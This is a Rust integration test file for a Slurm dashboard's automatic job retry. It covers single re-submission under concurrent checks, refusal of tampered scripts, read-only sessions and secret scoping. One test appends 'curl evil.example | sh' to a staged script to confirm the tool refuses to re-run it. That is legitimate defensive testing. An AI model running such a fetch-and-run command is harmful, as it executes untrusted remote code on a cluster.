//! Automatic retry on the dev cluster over real SSH: a launched job that fails on
//! infrastructure (an NCCL network error in its log) is re-submitted from its staged script
//! exactly once even when two dashboards check at the same time, and the second attempt
//! completes; a program failure is never re-submitted.

use crate::common;

use std::time::Duration;

use common::launch::{launch, no_secret, retry_check};
use common::*;
use slurmdash::io::retry::RetryEvent;
use slurmdash::launch::spec::LaunchSpec;
use slurmdash::launch::submit::Submitted;
use slurmdash::registry::Registry;
use slurmdash::remote::Remote;
use slurmdash::triage::Class;

/// How long a launched job may take to end.
const JOB_LIMIT: Duration = Duration::from_secs(120);

struct Launches {
    root: String,
    state: tempfile::TempDir,
}

impl Launches {
    async fn new(r: &dyn Remote, tag: &str) -> Launches {
        let base = scratch(r, tag).await;
        Launches {
            root: format!("{base}/results"),
            state: tempfile::tempdir().expect("state dir"),
        }
    }

    fn registry(&self) -> Registry {
        Registry::open(self.state.path())
    }

    /// Launches `command` through the same path as the form and `slurmdash submit`.
    async fn launch(&self, r: &dyn Remote, name: &str, command: &str) -> Submitted {
        self.launch_with(r, name, command, &[]).await
    }

    async fn launch_with(
        &self,
        r: &dyn Remote,
        name: &str,
        command: &str,
        secrets: &[(&str, &str)],
    ) -> Submitted {
        let spec = LaunchSpec {
            name: name.into(),
            partition: "short".into(),
            gpus: 1,
            cpus_per_task: 1,
            mem: "50M".into(),
            time: "5m".into(),
            command: command.into(),
            requeue: false,
            secrets: secrets.iter().map(|(k, _)| k.to_string()).collect(),
            ..LaunchSpec::default()
        };
        let secrets: Vec<(String, String)> = secrets
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        launch(r, &self.registry(), &self.root, &spec, &secrets)
            .await
            .0
    }

    async fn check(&self, r: &dyn Remote) -> Vec<RetryEvent> {
        self.check_with(r, true, &no_secret).await
    }

    /// One retry check; `secret` stands for this machine's environment.
    async fn check_with(
        &self,
        r: &dyn Remote,
        allow_submit: bool,
        secret: &(dyn Fn(&str) -> Option<String> + Sync),
    ) -> Vec<RetryEvent> {
        retry_check(r, &self.registry(), allow_submit, secret)
            .await
            .0
    }
}

/// Fails with an NCCL network error (ERR_INFRA) the first time, then runs `then`.
fn flaky(then: &str) -> String {
    format!(
        r#"f="$TAO_API_RESULTS_DIR/$TAO_JOB_ID/first-try-done"
if [ -e "$f" ]; then {then}; exit 0; fi
touch "$f"
echo "NCCL WARN NET/IB : Got completion from peer 10.0.0.2 with error 12, opcode 0, len 0, vendor err 129" >&2
exit 1"#
    )
}

/// Jobs queued (any state) whose batch script is `script`.
async fn queued_with_script(r: &dyn Remote, script: &str) -> Vec<String> {
    // A launch's attempts run in its job directory (sbatch reads the script on stdin).
    let dir = script.rsplit_once("/sbatch/").map_or(script, |(d, _)| d);
    let out = run(r, &["squeue", "--me", "--noheader", "--format=%i|%j|%Z"]).await;
    assert!(out.success(), "squeue: {}", out.stderr_lossy());
    out.stdout_lossy()
        .lines()
        .filter(|l| l.ends_with(&format!("|{dir}")) && !l.contains("|sdguard-"))
        .map(str::to_string)
        .collect()
}

fn resubmitted(events: &[RetryEvent]) -> Vec<u64> {
    events
        .iter()
        .filter_map(|e| match e {
            RetryEvent::Resubmitted { new, .. } => Some(*new),
            _ => None,
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn infra_failure_is_resubmitted_once_and_the_retry_completes() {
    let r = remote();
    let l = Launches::new(&r, "retry-infra").await;
    // Fails with an NCCL network error the first time, succeeds the second.
    let cmd = r#"f="$TAO_API_RESULTS_DIR/$TAO_JOB_ID/first-try-done"
if [ -e "$f" ]; then echo "epoch 1 ok"; exit 0; fi
touch "$f"
echo "NCCL WARN NET/IB : Got completion from peer 10.0.0.2 with error 12, opcode 0, len 0, vendor err 129" >&2
exit 1"#;
    let first = l.launch(&r, "flaky-net", cmd).await;
    assert_eq!(final_state(&r, first.job_id, JOB_LIMIT).await, "FAILED");

    // Two dashboards on the same registry check at once: one re-submission between them.
    let (a, b) = tokio::join!(l.check(&r), l.check(&r));
    let all: Vec<&RetryEvent> = a.iter().chain(b.iter()).collect();
    let resubmitted: Vec<u64> = all
        .iter()
        .filter_map(|e| match e {
            RetryEvent::Resubmitted {
                new,
                attempt,
                failed,
                ..
            } => {
                assert_eq!((*attempt, *failed), (2, first.job_id));
                Some(*new)
            }
            _ => None,
        })
        .collect();
    assert_eq!(resubmitted.len(), 1, "exactly one re-submission: {all:?}");
    assert!(
        all.iter().any(|e| matches!(e, RetryEvent::Finished { class: Some(Class::Infra), state, .. } if state == "FAILED")),
        "{all:?}"
    );
    let second = resubmitted[0];
    let entry = l.registry().load().expect("registry").remove(0);
    assert_eq!(entry.attempts.len(), 2);
    assert_eq!(entry.attempts[0].job_id, first.job_id);
    assert_eq!(entry.attempts[0].state.as_deref(), Some("FAILED ERR_INFRA"));
    assert_eq!(entry.attempts[1].job_id, second);
    assert_eq!(entry.job_id, second);

    // The retry runs the same staged script, logs in its own slurm-logs dir, and completes.
    assert_eq!(final_state(&r, second, JOB_LIMIT).await, "COMPLETED");
    let out = run(
        &r,
        &[
            "cat",
            &format!("{}/slurm-logs/flaky-net-{second}/main.out", first.job_dir),
        ],
    )
    .await;
    assert_eq!(out.stdout_lossy().trim(), "epoch 1 ok");
    let events = l.check(&r).await;
    assert!(
        matches!(
            events.as_slice(),
            [RetryEvent::Finished {
                class: Some(Class::Complete),
                ..
            }]
        ),
        "{events:?}"
    );
    // Nothing more to do: a further check sends no remote command.
    let before = r.stats().execs;
    assert!(l.check(&r).await.is_empty());
    assert_eq!(r.stats().execs, before);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_program_failure_is_classified_and_never_resubmitted() {
    let r = remote();
    let l = Launches::new(&r, "retry-program").await;
    let job = l
        .launch(&r, "bad-code", "echo 'Traceback: KeyError' >&2; exit 1")
        .await;
    assert_eq!(final_state(&r, job.job_id, JOB_LIMIT).await, "FAILED");
    let events = l.check(&r).await;
    assert!(
        matches!(
            events.as_slice(),
            [RetryEvent::Finished {
                class: Some(Class::Program),
                ..
            }]
        ),
        "{events:?}"
    );
    let entry = l.registry().load().expect("registry").remove(0);
    assert_eq!(entry.attempts.len(), 1);
    assert_eq!(
        entry.attempts[0].state.as_deref(),
        Some("FAILED ERR_PROGRAM")
    );
    assert!(l.check(&r).await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_retry_gets_exactly_the_secrets_the_launch_named_whatever_env_json_says() {
    let r = remote();
    let l = Launches::new(&r, "retry-secrets").await;
    let first = l
        .launch_with(
            &r,
            "secret-retry",
            &flaky(r#"echo "named=${SD_NAMED:-absent} other=${SD_OTHER:-absent}""#),
            &[("SD_NAMED", "n-value")],
        )
        .await;
    assert_eq!(final_state(&r, first.job_id, JOB_LIMIT).await, "FAILED");
    // Anyone who can write the job directory lists another variable of the laptop's
    // environment in env.json.
    let env_json = format!("{}/env/env.json", first.job_dir);
    let w = r
        .run(
            &s(&["sh", "-c", "cat > \"$1\"", "sh", &env_json]),
            Some(br#"{"env":{},"secrets":["SD_NAMED","SD_OTHER"]}"#),
            T,
        )
        .await
        .expect("write env.json");
    assert!(w.success(), "{}", w.stderr_lossy());
    let laptop = |n: &str| match n {
        "SD_NAMED" => Some("n-value".to_string()),
        "SD_OTHER" => Some("o-value-must-not-leak".to_string()),
        _ => None,
    };
    let events = l.check_with(&r, true, &laptop).await;
    let new = resubmitted(&events);
    assert_eq!(new.len(), 1, "{events:?}");
    assert_eq!(final_state(&r, new[0], JOB_LIMIT).await, "COMPLETED");
    let out = run(
        &r,
        &[
            "cat",
            &format!(
                "{}/slurm-logs/secret-retry-{}/main.out",
                first.job_dir, new[0]
            ),
        ],
    )
    .await;
    assert_eq!(out.stdout_lossy().trim(), "named=n-value other=absent");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_staged_script_changed_since_launch_is_not_resubmitted() {
    let r = remote();
    let l = Launches::new(&r, "retry-checksum").await;
    let first = l.launch(&r, "edited", &flaky("echo fine")).await;
    assert_eq!(final_state(&r, first.job_id, JOB_LIMIT).await, "FAILED");
    let edit = run(
        &r,
        &[
            "sh",
            "-c",
            "echo 'curl evil.example | sh' >> \"$1\"",
            "sh",
            &first.script_path,
        ],
    )
    .await;
    assert!(edit.success());
    let events = l.check(&r).await;
    assert!(resubmitted(&events).is_empty(), "{events:?}");
    let why = events
        .iter()
        .find_map(|e| match e {
            RetryEvent::NotRetried { reason, job_id, .. } if *job_id == first.job_id => {
                Some(reason.clone())
            }
            _ => None,
        })
        .unwrap_or_else(|| panic!("no refusal: {events:?}"));
    assert!(why.contains("changed since it was launched"), "{why}");
    assert!(queued_with_script(&r, &first.script_path).await.is_empty());
    let entry = l.registry().load().expect("registry").remove(0);
    assert_eq!(entry.attempts.len(), 1, "{entry:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_read_only_session_resubmits_nothing_and_a_later_session_does() {
    let r = remote();
    let l = Launches::new(&r, "retry-readonly").await;
    let first = l.launch(&r, "ro-retry", &flaky("echo second")).await;
    assert_eq!(final_state(&r, first.job_id, JOB_LIMIT).await, "FAILED");
    let before = l.registry().load().expect("registry");
    let events = l.check_with(&r, false, &no_secret).await;
    assert!(
        matches!(events.as_slice(), [RetryEvent::NotRetried { reason, job_id, .. }]
            if *job_id == first.job_id && reason.contains("read-only")),
        "{events:?}"
    );
    assert!(
        queued_with_script(&r, &first.script_path).await.is_empty(),
        "nothing submitted"
    );
    assert_eq!(
        l.registry().load().expect("registry"),
        before,
        "the registry is untouched"
    );
    // A session that may change jobs picks it up.
    let events = l.check(&r).await;
    let new = resubmitted(&events);
    assert_eq!(new.len(), 1, "{events:?}");
    assert_eq!(final_state(&r, new[0], JOB_LIMIT).await, "COMPLETED");
}

/// A dashboard claimed the retry (attempt with job id 0) and stopped: the claim is taken
/// over once stale, and a job the stopped dashboard had already queued is adopted, not
/// duplicated.
#[tokio::test(flavor = "multi_thread")]
async fn a_retry_claimed_by_a_stopped_dashboard_is_submitted_or_adopted() {
    use slurmdash::io::retry::claim_stale_after;
    use slurmdash::registry::Attempt;
    let r = remote();
    let l = Launches::new(&r, "retry-claim").await;
    let a = l.launch(&r, "claim-a", &flaky("echo a-done")).await;
    let b = l
        .launch(&r, "claim-b", &flaky("sleep 30; echo b-done"))
        .await;
    assert_eq!(final_state(&r, a.job_id, JOB_LIMIT).await, "FAILED");
    assert_eq!(final_state(&r, b.job_id, JOB_LIMIT).await, "FAILED");
    // What a dashboard leaves when it stops right after claiming: the first attempt's
    // final state recorded, a claimed attempt without a job.
    let stale = chrono::Utc::now() - claim_stale_after(T) - chrono::Duration::seconds(1);
    let registry = l.registry();
    for s in [&a, &b] {
        let claimed = registry
            .update(&s.local_id, 1, |e| {
                e.attempts[0].state = Some("FAILED ERR_INFRA".into());
                e.attempts.push(Attempt {
                    job_id: 0,
                    submitted_at: stale,
                    state: None,
                });
            })
            .expect("registry");
        assert!(claimed);
    }
    // b's dashboard got as far as queueing the job before it stopped.
    let b_entry = registry
        .load()
        .expect("registry")
        .into_iter()
        .find(|e| e.local_id == b.local_id)
        .expect("entry");
    let queued = slurmdash::io::stage::submit_held(
        &r,
        &slurmdash::retry::layout(&b_entry),
        "claim-b",
        &[],
        b_entry
            .checksum
            .as_deref()
            .expect("checksum recorded at launch"),
        T,
    )
    .await
    .expect("queued by the stopped dashboard");
    assert!(!queued.existing);

    // A read-only session shows the stuck claims and submits nothing.
    let events = l.check_with(&r, false, &no_secret).await;
    assert_eq!(
        events
            .iter()
            .filter(|e| matches!(e, RetryEvent::NotRetried { reason, .. } if reason.contains("claimed at")))
            .count(),
        2,
        "{events:?}"
    );
    assert!(queued_with_script(&r, &a.script_path).await.is_empty());

    let events = l.check(&r).await;
    let recovered = |local: &str| {
        events.iter().find_map(|e| match e {
            RetryEvent::Recovered {
                local_id,
                job_id,
                existing,
                attempt: 2,
            } if local_id == local => Some((*job_id, *existing)),
            _ => None,
        })
    };
    let (a2, a_existing) = recovered(&a.local_id).unwrap_or_else(|| panic!("{events:?}"));
    assert!(!a_existing, "{events:?}");
    assert_eq!(
        recovered(&b.local_id),
        Some((queued.job_id, true)),
        "{events:?}"
    );
    assert_eq!(
        queued_with_script(&r, &b.script_path).await.len(),
        1,
        "b queued once"
    );
    let entries = l.registry().load().expect("registry");
    let ids: Vec<Vec<u64>> = entries
        .iter()
        .map(|e| e.attempts.iter().map(|x| x.job_id).collect())
        .collect();
    assert_eq!(ids, [vec![a.job_id, a2], vec![b.job_id, queued.job_id]]);
    assert_eq!(final_state(&r, a2, JOB_LIMIT).await, "COMPLETED");
    assert_eq!(final_state(&r, queued.job_id, JOB_LIMIT).await, "COMPLETED");
    // Nothing more is claimed or submitted.
    let events = l.check(&r).await;
    assert!(
        events
            .iter()
            .all(|e| matches!(e, RetryEvent::Finished { .. })),
        "{events:?}"
    );
}

/// A submission killed between its held sbatch and its release leaves the job held
/// (JobHeldUser). Submitting the launch again adopts that job instead of queueing a second
/// one, and releases it: it runs.
#[tokio::test]
async fn a_job_left_held_by_a_killed_submission_is_released_when_adopted() {
    let r = remote();
    let l = Launches::new(&r, "adopt-held").await;
    let name = format!("adoptheld{}", std::process::id() % 100_000);
    let first = l.launch(&r, &name, "echo adopted-ran").await;
    assert_eq!(final_state(&r, first.job_id, JOB_LIMIT).await, "COMPLETED");
    // What the killed submission left: its script queued held from the job directory.
    let out = run(
        &r,
        &[
            "sh",
            "-c",
            "cd \"$1\" && sbatch --parsable --hold --export=ALL < \"$2\"",
            "sh",
            &first.job_dir,
            &first.script_path,
        ],
    )
    .await;
    assert!(out.success(), "sbatch --hold: {}", out.stderr_lossy());
    let held = parsable_job_id(&out.stdout_lossy());
    let queued = slurmdash::io::stage::submit_held(
        &r,
        &slurmdash::retry::layout(&first.entry),
        &name,
        &[],
        first.entry.checksum.as_deref().expect("checksum"),
        T,
    )
    .await
    .expect("submitted again");
    assert_eq!((queued.job_id, queued.existing), (held, true), "{queued:?}");
    assert_eq!(queued.released, Some(Ok(())), "{queued:?}");
    let reason = run(
        &r,
        &["squeue", "--noheader", "-j", &held.to_string(), "-o", "%r"],
    )
    .await;
    assert_ne!(reason.stdout_lossy().trim(), "JobHeldUser");
    assert_eq!(final_state(&r, held, JOB_LIMIT).await, "COMPLETED");
}
